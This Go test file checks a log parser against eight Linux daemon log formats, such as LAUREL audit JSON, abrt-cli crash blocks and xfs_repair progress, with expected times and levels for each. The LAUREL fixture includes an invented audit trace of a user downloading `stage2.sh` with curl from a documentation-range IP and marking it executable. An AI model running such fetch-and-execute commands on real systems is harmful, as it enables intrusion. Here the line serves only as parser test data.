package parse

import "testing"

// The four-hundred-and-forty-fifth fresh table, written on 2026-12-06: Linux system daemons, yet
// another pass, shapes no earlier table holds. Each family is one product's documented or observed
// output as admins paste it in bug reports: LAUREL's enriched audit log (one JSON object an event,
// its time only in the `ID` key's `epoch.ms:serial`); ABRT's `abrt-cli list` (one labelled block a
// problem, its time in `%a %d %b %Y %I:%M:%S %p %Z`); xfs_repair's progress thread (a time of day
// with no date inside indented dash lines, untimed phase lines between them); akmods' .last.log (a
// slashed date and `akmods:`/`akmodsbuild:`, rpmbuild's bare `warning:`/`error:` lines between);
// GNU mcron under GNU Shepherd in Guix's /var/log/mcron.log (Shepherd's stamp, then `pid job:`);
// `resolvectl monitor` (untimed blocks of `→ Q:`, `← S:`, `← A:` lines); s6-overlay v2's stage
// lines read with `docker logs -t`; update-initramfs with initramfs-tools' one-letter `W:`, `I:`,
// `E:` markers.
//
// Every candidate was grepped for in every parse/*_test.go by product and by a fragment of its line
// first, case-insensitive (`laurel`, `"ARGV"`, `EVENT_ID`, `SOCKADDR`, `go-audit`, `ausearch`,
// `aureport`, `abrt`, `abrt-cli`, `abrt-auto-reporting`, `ccpp-`, `reason:`, `Directory:`,
// `xfs_repair`, `XFS_REPAIR`, `Phase 1 -`, `Phase 3`, `agno =`, `inode discovery`,
// `scanning filesystem freespace`, `akmod`, `akmodsbuild`, `Rebuilding /usr/src`, `mcron`,
// `mcron.log`, `shepherd`, `completed in`, `resolvectl`, `→ Q`, `← S:`, `← A:`, `s6-init`,
// `[s6-init]`, `[fix-attrs.d]`, `[cont-init.d]`, `[cont-finish.d]`, `[s6-finish]`, `[services.d]`,
// `cont-init`, `exited 0.`, `update-initramfs`, `mkinitramfs`, `initramfs-tools`,
// `Possible missing firmware`, `Generating /boot/initrd`, `I: The initramfs will attempt`; and,
// dropped because a table holds them, `apk add`, `APKINDEX`, `unable to select packages`,
// `pam_exec`, `*** Sun`, `submithost`, `log_format=json`, `KRB5_TRACE`, `wpa_supplicant`,
// `1795938076.123456: wlan`, `<3>AP-STA`, `<3>CTRL-EVENT`, `FuEngine`, `temperature.gpu`,
// `query-gpu`, `Scrub started`, `lastlog2`, `wtmpdb`, `faillock`, `utmpdump`, `no-hostname`,
// `short-monotonic`, `list-boots`, `lvmcmdline`, `multipath`, `sanlock`, `drbdsetup`, `ntp.log`,
// `conntrackd`, `ulogd.c`, `dhclient.leases`, `emerge.log`, `SUBDEBUG`, `Aptitude`, `apt-cacher`,
// `hplog`, `storcli`, `MegaCli`, `tw_cli`, `numad`, `rkhunter`, `lynis`, `samhain`, `snoopy`,
// `lastcomm`, `dinit`, `bootlogd`, `Log of fsck`, `SU 11/`, `sulog`, `btmon`, `signal time=`,
// `udisksctl`, `upower`, `lightdm`, `sddm`, `xrdp`, `ceph-volume`, `glusterd`, `zpool events`).
// LAUREL, abrt-cli, xfs_repair, akmods, mcron, resolvectl and update-initramfs are in none.
// ABRT's daemons are in fresh33 through syslog (abrtd, abrt-server); `abrt-cli list` is in none.
// GNU Shepherd is named in fresh399's list; mcron's log under it is in none. s6-overlay v2's
// `[services.d]` lines are in fresh197 under a docker compose prefix, its v3 `s6-rc: info:` lines
// in fresh51, fresh162, fresh177, fresh410 and fresh423; the v2 stage lines under Docker's
// `-t` stamps are in none. initramfs-tools' boot-time serial log (Begin/done) is in fresh337; the
// update-initramfs run is in none. Left out as measured already: Alpine's apk (fresh84),
// pam_exec's log file (fresh64), sudo's JSON and I/O logs (fresh55, fresh282), KRB5_TRACE (fresh23,
// fresh83, fresh219), wpa_supplicant -t (holdout), hostapd_cli and wpa_cli events (fresh114,
// fresh266), fwupd's verbose log (fresh105, fresh266), nvidia-smi's CSV loop (fresh159), btrfs
// scrub status (fresh116, fresh418), the journal's monotonic and no-hostname outputs (fresh155,
// fresh235 and others). The table holds 8 families.
//
// It follows the same harness (table_test.go) and the same rules as the other tables (see the
// comment at the top of world_test.go): times in UTC with the table's clock (worldNow 2026-11-29
// 12:00, Location UTC). LAUREL's only time is the ID's epoch with milliseconds (the serial after
// the colon is no part of it, and the PPID's EVENT_ID is the parent's older event); abrt-cli's
// `time:` field is converted from CET, its 12-hour clock read with AM/PM (a PM time the evening
// before); xfs_repair's `HH:MM:SS` is a time of day on the clock's day, taken as UTC; akmods' and
// Shepherd's stamps have no zone and are taken as UTC; Docker's RFC 3339 stamp is the only time of
// the s6 lines; resolvectl monitor and update-initramfs carry no time. Levels only where the line
// marks one: rpm's `warning:`/`error:` prefix (bare, or behind `akmodsbuild: `), initramfs-tools'
// `W:`, `I:`, `E:`; none elsewhere (`success":"no"`, `SIGSEGV`, `exited 127.`, `← S: timeout` and
// `failed after` are message text). No family has a host field: the addresses in a SOCKADDR or
// an answer record are peers. A record that spans lines is one entry: an abrt-cli block with its
// blank line, abrt-cli's two-line autoreporting notice, a resolvectl monitor block with its
// blank line; xfs_repair's indented dash lines, rpmbuild's bare lines and initramfs-tools' `I:`
// continuation line are records of their own, written by calls of their own.
//
// The shapes come from the documentation, sources and issue threads each case names, found with the
// search tool (corpora "docs", "issues", "code", "pages"); where a search did not confirm a layout the
// source says "from memory". Hosts, ids, addresses, users and messages are invented, and every time
// is in late November 2026. The expectations were decided from the format before the table was
// first run, and none was changed after it; a family trawl still gets wrong carries a gap that says
// what it does not read, and it stays in the score.
//
// Its first figure, scored at commit 52ed03a before any rule for it: level 80.9 %, time 65.3 %, host 80.9 %, records 63.9 %.
// That is the macro figure (micro: level 72.6 %, time 64.5 %, host 72.6 %, records 62.9 %), in a
// worktree at 52ed03a with no change to trawl's code (only this file and table_test.go's list), 4 of
// 8 families fully right (akmods' .last.log, mcron under Shepherd, s6-overlay v2 under `docker logs
// -t`, update-initramfs); the gaps are the time in LAUREL's ID key, abrt-cli's blocks (a record
// opened at the `time:` line), xfs_repair's indented step and progress lines (joined to the phase line above),
// and resolvectl monitor's untimed blocks.

var fresh445Cases = []worldCase{
	{
		name:   "laurel-audit-jsonl",
		source: "LAUREL 0.6 as an auditd plug-in writing /var/log/laurel/audit.log (one JSON object an event with at least an `ID` of `epoch.ms:serial`; SYSCALL, EXECVE with ARGV, CWD, PATH and SOCKADDR lists, PROCTITLE with ARGV; the PPID enrichment with the parent's EVENT_ID): threathunters-io/laurel README.md, json-format.md and man/laurel.8.md; the keys inside SYSCALL and the SOCKADDR object from memory",
		why:    "the only time is the ID's epoch with milliseconds, a serial after the colon; the PPID's EVENT_ID is an older event; \"success\":\"no\" is no level; SOCKADDR's addr is a peer, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.412Z", Unknown, "", `{"ID":"1795938076.412:88231","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"items":2,"ppid":4410,"pid":4411,"auid":1000,"uid":1000,"gid":1000,"euid":1000,"suid":1000,"fsuid":1000,"egid":1000,"sgid":1000,"fsgid":1000,"tty":"pts0","ses":12,"comm":"curl","exe":"/usr/bin/curl","key":"exec","ARCH":"x86_64","SYSCALL":"execve","AUID":"nadia","UID":"nadia","GID":"nadia","PPID":{"EVENT_ID":"1795937411.020:87902","comm":"bash","exe":"/usr/bin/bash","ppid":4380}},"EXECVE":{"argc":3,"ARGV":["curl","-sO","http://198.51.100.23/stage2.sh"]},"CWD":{"cwd":"/home/nadia"},"PATH":[{"item":0,"name":"/usr/bin/curl","inode":1318221,"dev":"fd:01","mode":"0o100755","ouid":0,"ogid":0,"rdev":"00:00","nametype":"NORMAL","OUID":"root","OGID":"root"},{"item":1,"name":"/lib64/ld-linux-x86-64.so.2","inode":1311002,"dev":"fd:01","mode":"0o100755","ouid":0,"ogid":0,"rdev":"00:00","nametype":"NORMAL","OUID":"root","OGID":"root"}],"PROCTITLE":{"ARGV":["curl","-sO","http://198.51.100.23/stage2.sh"]}}`),
			we("2026-11-29T07:41:17.105Z", Unknown, "", `{"ID":"1795938077.105:88236","SYSCALL":{"arch":"0xc000003e","syscall":42,"success":"no","exit":-115,"items":0,"ppid":4410,"pid":4411,"auid":1000,"uid":1000,"gid":1000,"euid":1000,"suid":1000,"fsuid":1000,"egid":1000,"sgid":1000,"fsgid":1000,"tty":"pts0","ses":12,"comm":"curl","exe":"/usr/bin/curl","key":"net_connect","ARCH":"x86_64","SYSCALL":"connect","AUID":"nadia","UID":"nadia","GID":"nadia"},"SOCKADDR":[{"saddr":{"family":"inet","port":80,"addr":"198.51.100.23"}}],"PROCTITLE":{"ARGV":["curl","-sO","http://198.51.100.23/stage2.sh"]}}`),
			we("2026-11-29T07:41:20.53Z", Unknown, "", `{"ID":"1795938080.530:88240","SYSCALL":{"arch":"0xc000003e","syscall":90,"success":"yes","exit":0,"items":1,"ppid":4380,"pid":4419,"auid":1000,"uid":1000,"gid":1000,"euid":1000,"suid":1000,"fsuid":1000,"egid":1000,"sgid":1000,"fsgid":1000,"tty":"pts0","ses":12,"comm":"chmod","exe":"/usr/bin/chmod","key":"perm_mod","ARCH":"x86_64","SYSCALL":"chmod","AUID":"nadia","UID":"nadia","GID":"nadia"},"CWD":{"cwd":"/home/nadia"},"PATH":[{"item":0,"name":"stage2.sh","inode":2621507,"dev":"fd:02","mode":"0o100644","ouid":1000,"ogid":1000,"rdev":"00:00","nametype":"NORMAL","OUID":"nadia","OGID":"nadia"}],"PROCTITLE":{"ARGV":["chmod","+x","stage2.sh"]}}`),
			we("2026-11-29T07:45:01.007Z", Unknown, "", `{"ID":"1795938301.007:88305","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"items":2,"ppid":1207,"pid":4533,"auid":0,"uid":0,"gid":0,"euid":0,"suid":0,"fsuid":0,"egid":0,"sgid":0,"fsgid":0,"tty":"(none)","ses":14,"comm":"logrotate","exe":"/usr/sbin/logrotate","key":"exec","ARCH":"x86_64","SYSCALL":"execve","AUID":"root","UID":"root","GID":"root","PPID":{"EVENT_ID":"1795938300.996:88301","comm":"crond","exe":"/usr/sbin/crond","ppid":1}},"EXECVE":{"argc":2,"ARGV":["/usr/sbin/logrotate","/etc/logrotate.conf"]},"CWD":{"cwd":"/root"},"PROCTITLE":{"ARGV":["/usr/sbin/logrotate","/etc/logrotate.conf"]}}`),
		},
	},
	{
		name:   "abrt-cli-list-blocks",
		gap:    "trawl opens each record at a block's `time:` line (whose `Sun 29 Nov 2026 08:41:16 AM CET` it reads right, PM and CET included): the block's `id <sha1>` and `reason:` lines stand as untimed records of their own, and the next block's `id` and `reason:` lines are joined to the block before",
		source: "ABRT's `abrt-cli list` on RHEL 8/9 in CET (one block a problem: `id <sha1>`, then `reason:`, `time:` as `%a %d %b %Y %I:%M:%S %p %Z`, `cmdline:`, `package:`, `uid:`, `count:`, `Directory:`, the `Run 'abrt-cli report …'` hint, a blank line; the autoreporting notice last): abrt/libreport issue #603 (a block pasted whole), abrt/abrt issues #841 and #164 (the older and newer listings)",
		why:    "a block's first line `id …` has no time; its `time:` field, 12-hour with AM/PM and a zone abbreviation, is the record's time; the spool directory's name holds a zone-less local time that is not; no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "",
				"id 5c1e9a0b7d2f43e8a6b1c0d9e8f7a6b5c4d3e2f1",
				"reason:         nginx killed by SIGSEGV",
				"time:           Sun 29 Nov 2026 08:41:16 AM CET",
				"cmdline:        nginx: worker process",
				"package:        nginx-1.20.1-16.el9_4.1",
				"uid:            991 (nginx)",
				"count:          3",
				"Directory:      /var/spool/abrt/ccpp-2026-11-29-08:41:16.412883-4411",
				"Run 'abrt-cli report /var/spool/abrt/ccpp-2026-11-29-08:41:16.412883-4411' for creating a case in Red Hat Customer Portal",
				""),
			we("2026-11-28T22:05:52Z", Unknown, "",
				"id 0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b",
				"reason:         mce: [Hardware Error]: Machine check events logged",
				"time:           Sat 28 Nov 2026 11:05:52 PM CET",
				"package:        kernel-core-5.14.0-427.42.1.el9_4",
				"uid:            0",
				"count:          1",
				"Directory:      /var/spool/abrt/oops-2026-11-28-23:05:52-1207-0",
				"Run 'abrt-cli report /var/spool/abrt/oops-2026-11-28-23:05:52-1207-0' for creating a case in Red Hat Customer Portal",
				""),
			we("2026-11-29T05:00:07Z", Unknown, "",
				"id 3f2e1d0c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e",
				"reason:         dnf-automatic:112:main:OSError: [Errno 28] No space left on device",
				"time:           Sun 29 Nov 2026 06:00:07 AM CET",
				"cmdline:        /usr/bin/python3 /usr/bin/dnf-automatic /etc/dnf/automatic.conf --timer",
				"package:        dnf-automatic-4.14.0-9.el9",
				"uid:            0 (root)",
				"count:          1",
				"Directory:      /var/spool/abrt/Python3-2026-11-29-06:00:07-2217",
				"Run 'abrt-cli report /var/spool/abrt/Python3-2026-11-29-06:00:07-2217' for creating a case in Red Hat Customer Portal",
				""),
			we("", Unknown, "",
				"The Autoreporting feature is disabled. Please consider enabling it by issuing",
				"'abrt-auto-reporting enabled' as a user with root privileges"),
		},
	},
	{
		name:   "xfs-repair-progress-report",
		gap:    "trawl joins the indented `        - …` step lines and the progress thread's `        - HH:MM:SS: … done` and `\t- HH:MM:SS: Phase N: …` lines to the `Phase N - …` line above them as its continuation, so each phase is one record and the time of day in a progress line is never a record's time",
		source: "xfsprogs' xfs_repair on a large volume with `-o ag_stride=8 -t 60` (phase lines `Phase N - …`, step lines `        - …`, the progress thread's `        - HH:MM:SS: <step> - N of M <unit> done` and `\\t- HH:MM:SS: Phase N: elapsed time … / N% done - estimated remaining time …`, the time of day from localtime with no date): xfsprogs repair/progress.c (rpt_fmts, progress_rpt_thread); the phase and step lines as in elastio/elastio-snap issue #63",
		why:    "a time of day with no date behind a dash in an indented line (on the clock's day); the phase and step lines carry no time and must not take a neighbour's; counts and percentages are no times; each line is a record of its own",
		entries: []worldEntry{
			we("", Unknown, "", "Phase 1 - find and verify superblock..."),
			we("", Unknown, "", "Phase 2 - using internal log"),
			we("", Unknown, "", "        - zero log..."),
			we("", Unknown, "", "        - scan filesystem freespace and inode maps..."),
			we("2026-11-29T07:41:16Z", Unknown, "", "        - 07:41:16: scanning filesystem freespace - 32 of 32 allocation groups done"),
			we("", Unknown, "", "        - found root inode chunk"),
			we("", Unknown, "", "Phase 3 - for each AG..."),
			we("", Unknown, "", "        - scan and clear agi unlinked lists..."),
			we("", Unknown, "", "        - process known inodes and perform inode discovery..."),
			we("", Unknown, "", "        - agno = 0"),
			we("", Unknown, "", "        - agno = 8"),
			we("2026-11-29T07:42:16Z", Unknown, "", "        - 07:42:16: process known inodes and inode discovery - 1835008 of 4194304 inodes done"),
			we("2026-11-29T07:42:16Z", Unknown, "", "\t- 07:42:16: Phase 3: elapsed time 1 minute - processed 1835008 inodes per minute"),
			we("2026-11-29T07:42:16Z", Unknown, "", "\t- 07:42:16: Phase 3: 43% done - estimated remaining time 1 minute, 17 seconds"),
			we("", Unknown, "", "        - agno = 16"),
			we("2026-11-29T07:43:16Z", Unknown, "", "        - 07:43:16: process known inodes and inode discovery - 4194304 of 4194304 inodes done"),
			we("", Unknown, "", "        - process newly discovered inodes..."),
			we("", Unknown, "", "Phase 4 - check for duplicate blocks..."),
		},
	},
	{
		name:   "akmods-last-log",
		source: "akmods on Fedora 41 building nvidia-kmod, /var/cache/akmods/nvidia/.last.log cat'ed (akmods_echo's `yyyy/MM/dd HH:mm:ss akmods: msg`, akmodsbuild's own and rpmbuild's forwarded lines behind `akmodsbuild: `, rpmbuild's stderr lines written bare between them, `Building rpms failed; see … for details`): linrunner/TLP issues #132 and #114 (.last.log pasted), terrapkg/packages issue #11048, linux-surface/linux-surface issue #93 (the akmods script's akmods_echo)",
		why:    "a slashed date with no zone, then the program and a colon; rpm's `warning:`/`error:` prefix is its level, behind `akmodsbuild: ` or bare; a bare rpmbuild line has no time of its own and is a record of its own",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", "2026/11/29 07:41:16 akmods: Building RPM using the command '/usr/sbin/akmodsbuild --kernels 6.11.8-300.fc41.x86_64 /usr/src/akmods/nvidia-kmod.latest'"),
			we("2026-11-29T07:41:17Z", Warn, "", "2026/11/29 07:41:17 akmodsbuild: warning: user mockbuild does not exist - using root"),
			we("2026-11-29T07:41:17Z", Unknown, "", "2026/11/29 07:41:17 akmodsbuild: Installing /usr/src/akmods/nvidia-kmod.latest"),
			we("2026-11-29T07:41:17Z", Unknown, "", "2026/11/29 07:41:17 akmodsbuild: Building target platforms: x86_64"),
			we("2026-11-29T07:41:18Z", Unknown, "", "2026/11/29 07:41:18 akmodsbuild: + cd /tmp/akmodsbuild.Xq7bR2kT/BUILD"),
			we("", Warn, "", "warning: group mockbuild does not exist - using root"),
			we("", Error, "", "error: Bad exit status from /var/tmp/rpm-tmp.kW31aP (%build)"),
			we("2026-11-29T07:43:02Z", Unknown, "", "2026/11/29 07:43:02 akmods: Building rpms failed; see /var/cache/akmods/nvidia/565.57.01-1-for-6.11.8-300.fc41.x86_64.failed.log for details"),
		},
	},
	{
		name:   "mcron-shepherd-log-guix",
		source: "GNU mcron 1.2 run by GNU Shepherd as Guix's mcron-service-type, /var/log/mcron.log (Shepherd's `yyyy-MM-dd HH:mm:ss` before each line, then mcron's default log-format `~1@*~a ~a: ~a~%`, i.e. `pid job: message`): the Guix manual's 'Mcron Home Service' (the log-format default and the Shepherd timestamp), mcron(1) 1.2.3 (--log, --log-format, --date-format); the `running...`, `completed in` and `failed after` messages from memory",
		why:    "Shepherd's zone-less stamp; the job's pid after it is no part of the time; a job name with spaces and a `-F 10G` before its colon; `failed after` is message text, no level",
		entries: []worldEntry{
			we("2026-11-29T03:00:00Z", Unknown, "", "2026-11-29 03:00:00 24517 updatedb: running..."),
			we("2026-11-29T03:00:41Z", Unknown, "", "2026-11-29 03:00:41 24517 updatedb: completed in 41.207s"),
			we("2026-11-29T07:41:16Z", Unknown, "", "2026-11-29 07:41:16 25880 guix gc -F 10G: running..."),
			we("2026-11-29T07:41:19Z", Unknown, "", "2026-11-29 07:41:19 25880 guix gc -F 10G: finding garbage collector roots..."),
			we("2026-11-29T07:41:22Z", Unknown, "", "2026-11-29 07:41:22 25880 guix gc -F 10G: deleting garbage..."),
			we("2026-11-29T07:42:58Z", Unknown, "", "2026-11-29 07:42:58 25880 guix gc -F 10G: failed after 102.374s with: exit code 1"),
		},
	},
	{
		name:   "resolvectl-monitor-blocks",
		gap:    "trawl makes each line of a monitor block a record of its own: the `← S:` and `← A:` lines (and a second `→ Q:` line) are not joined to the block's first `→ Q:` line; only the blank line is joined, to the block's last line",
		source: "systemd-resolved's `resolvectl monitor` (systemd 254+: each finished lookup printed as `→ Q: name CLASS TYPE` question lines, `← S: state` and `← A: record` answer lines, then a blank line; no time, no level): systemd/systemd issue #34011 (the `← S:` line), issue #20264 and PR #24853 (the monitor's origin and fixes); the block's layout from memory",
		why:    "arrows and one-letter tags before a colon are no levels; `timeout` is a state; a block with its blank line is one record; the answers' addresses and names are no hosts; nothing carries a time",
		entries: []worldEntry{
			we("", Unknown, "",
				"→ Q: mirrors.fedoraproject.org IN A",
				"← S: success",
				"← A: mirrors.fedoraproject.org IN CNAME wildcard.fedoraproject.org",
				"← A: wildcard.fedoraproject.org IN A 38.145.60.21",
				""),
			we("", Unknown, "",
				"→ Q: updates.corp.example.net IN A",
				"→ Q: updates.corp.example.net IN AAAA",
				"← S: timeout",
				""),
			we("", Unknown, "",
				"→ Q: _ldap._tcp.corp.example.net IN SRV",
				"← S: success",
				"← A: _ldap._tcp.corp.example.net IN SRV 0 100 389 dc02.corp.example.net",
				""),
		},
	},
	{
		name:   "s6-overlay-v2-docker-logs-t",
		source: "a container on s6-overlay v2 (a linuxserver.io-style image) read with `docker logs -t` (Docker's RFC 3339 nanosecond stamp before each of s6's untimed stage lines: `[s6-init] …exited 0.`, `[fix-attrs.d] …`, `[cont-init.d] NN-name: executing...` / `exited N.`, `[services.d] …`, `[cont-finish.d] …`, `[s6-finish] …`, and a cont-init script's own output): just-containers/s6-overlay issues #261 and #339 (the stage lines), ChineseSubFinder/ChineseSubFinder issue #592 (the finish lines)",
		why:    "Docker's stamp is the only time; a stage name in brackets is no level and no host; `exited 127.` is an exit status",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.204117384Z", Unknown, "", "2026-11-29T07:41:16.204117384Z [s6-init] making user provided files available at /var/run/s6/etc...exited 0."),
			we("2026-11-29T07:41:16.219640212Z", Unknown, "", "2026-11-29T07:41:16.219640212Z [s6-init] ensuring user provided files have correct perms...exited 0."),
			we("2026-11-29T07:41:16.22190753Z", Unknown, "", "2026-11-29T07:41:16.221907530Z [fix-attrs.d] applying ownership & permissions fixes..."),
			we("2026-11-29T07:41:16.224880173Z", Unknown, "", "2026-11-29T07:41:16.224880173Z [cont-init.d] executing container initialization scripts..."),
			we("2026-11-29T07:41:16.226402935Z", Unknown, "", "2026-11-29T07:41:16.226402935Z [cont-init.d] 10-adduser: executing..."),
			we("2026-11-29T07:41:16.301874452Z", Unknown, "", "2026-11-29T07:41:16.301874452Z usermod: no changes"),
			we("2026-11-29T07:41:16.305226018Z", Unknown, "", "2026-11-29T07:41:16.305226018Z [cont-init.d] 10-adduser: exited 0."),
			we("2026-11-29T07:41:16.388402117Z", Unknown, "", "2026-11-29T07:41:16.388402117Z [cont-init.d] 30-config: exited 127."),
			we("2026-11-29T07:41:16.390114501Z", Unknown, "", "2026-11-29T07:41:16.390114501Z [services.d] starting services"),
			we("2026-11-29T07:52:03.118264907Z", Unknown, "", "2026-11-29T07:52:03.118264907Z [cont-finish.d] executing container finish scripts..."),
			we("2026-11-29T07:52:03.120553361Z", Unknown, "", "2026-11-29T07:52:03.120553361Z [s6-finish] sending all processes the TERM signal."),
		},
	},
	{
		name:   "update-initramfs-markers",
		source: "initramfs-tools' update-initramfs on Ubuntu 24.04 as pasted from a terminal or apt's output (`update-initramfs: Generating /boot/initrd.img-<kver>`, hook-functions' `W: Possible missing firmware … for module …`, the resume hook's three `I:` lines, mkinitramfs' `E: …` and `update-initramfs: failed for … with 1.`): rajeshroy402/DeepStream-dGPU-Installation issue #2, elementary/appcenter issues #1773 and #1777, linux-surface/linux-surface issue #133",
		why:    "one letter and a colon at the line's start is initramfs-tools' level (W warn, I info, E error); the kernel version and firmware versions are no times; nothing carries a time; each `I:` line is a record of its own",
		entries: []worldEntry{
			we("", Unknown, "", "update-initramfs: Generating /boot/initrd.img-6.8.0-49-generic"),
			we("", Warn, "", "W: Possible missing firmware /lib/firmware/ast_dp501_fw.bin for module ast"),
			we("", Warn, "", "W: Possible missing firmware /lib/firmware/i915/mtl_gsc_102.0.0.1511.bin for module i915"),
			we("", Info, "", "I: The initramfs will attempt to resume from /dev/dm-2"),
			we("", Info, "", "I: (/dev/mapper/vgubuntu-swap_1)"),
			we("", Info, "", "I: Set the RESUME variable to override this."),
			we("", Error, "", "E: mkinitramfs failure zstd -q -9 -T0 28"),
			we("", Unknown, "", "update-initramfs: failed for /boot/initrd.img-6.8.0-49-generic with 1."),
		},
	},
}

func TestFresh445Formats(t *testing.T) { assertTable(t, fresh445Cases) }
func TestFresh445Score(t *testing.T) {
	checkScore(t, "fresh445 formats", fresh445Cases, [worldNumFields]float64{80.8, 77.7, 80.8, 63.8})
}
